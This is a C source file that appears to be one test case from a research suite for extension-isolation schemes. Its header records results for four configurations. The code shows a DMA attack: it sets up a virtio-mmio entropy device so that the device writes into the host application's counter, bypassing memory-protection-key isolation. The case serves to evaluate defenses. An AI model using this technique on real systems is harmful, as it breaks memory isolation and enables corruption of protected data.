/*
{
  "title": "A queue of the extension's own for a device that nobody uses, with the application's counter as its buffer, in a write window",
  "precondition": "a write window, as uIO exports it",
  "reference": "Markettos et al., Thunderclap: Exploring Vulnerabilities in Operating System IOMMU Protection via DMA from Untrustworthy Peripherals, NDSS 2019; OASIS, Virtual I/O Device (VIRTIO) Version 1.2, 2022",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I6", "event": "mmioAccess"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"}
  }
}
*/
#include "attack.h"
#include "processor.h"

// virtio-mmio (virtio 1.2, section 4.2.2): a slot is 512 bytes from 0xfeb00000 on.
enum register_offset {
  MAGIC = 0, DEVICE_ID = 8, DRIVER_FEATURES = 0x20, DRIVER_FEATURES_SELECT = 0x24, QUEUE_SELECT = 0x30, QUEUE_SIZE = 0x38, QUEUE_READY = 0x44,
  QUEUE_NOTIFY = 0x50, STATUS = 0x70, QUEUE_DESCRIPTORS = 0x80, QUEUE_DRIVER = 0x90, QUEUE_DEVICE = 0xa0,
};

static volatile uint32_t *slot(uint32_t device) {
  for (uint64_t base = 0xfeb00000; base < 0xfeb01000; base += 512)
    if (*(volatile uint32_t *)(base + DEVICE_ID) == device) return (volatile uint32_t *)base;
  return 0;
}

static inline void set(volatile uint32_t *base, uint32_t offset, uint64_t value) { base[offset / 4] = (uint32_t)value; }

// A queue of the extension's own for the source of random numbers, with one descriptor: the device writes it.
static struct {
  struct { uint64_t address; uint32_t length; uint16_t flags, next; } descriptors[4];
  struct { uint16_t flags, index, ring[4], event; } available;
  uint8_t room[64];
  struct { uint16_t flags, index; struct { uint32_t id, length; } ring[4]; uint16_t event; } used;
} queue __attribute__((aligned(64)));

static void set_address(volatile uint32_t *base, uint32_t offset, const volatile void *place) {
  const uint64_t address = physical(place);
  set(base, offset, address);
  set(base, offset + 4, address >> 32);
}

static void take_random_numbers(volatile void *target) {
  volatile uint32_t *const base = slot(4);
  queue.descriptors[0].address = physical(target);
  queue.descriptors[0].length = 8;
  queue.descriptors[0].flags = 2;
  queue.available.index = 1;
  set(base, STATUS, 0);
  set(base, STATUS, 1);
  set(base, STATUS, 3);
  set(base, DRIVER_FEATURES_SELECT, 1);
  set(base, DRIVER_FEATURES, 1);
  set(base, DRIVER_FEATURES_SELECT, 0);
  set(base, DRIVER_FEATURES, 0);
  set(base, STATUS, 11);
  set(base, QUEUE_SELECT, 0);
  set(base, QUEUE_SIZE, 4);
  set_address(base, QUEUE_DESCRIPTORS, &queue.descriptors);
  set_address(base, QUEUE_DRIVER, &queue.available);
  set_address(base, QUEUE_DEVICE, &queue.used);
  set(base, QUEUE_READY, 1);
  set(base, STATUS, 15);
  set(base, QUEUE_NOTIFY, 0);
}

int main(void) {
  BYPASS(USHELL_WINDOW(take_random_numbers(&count)); return 0);
  GOAL_COUNT();
  return 0;
}
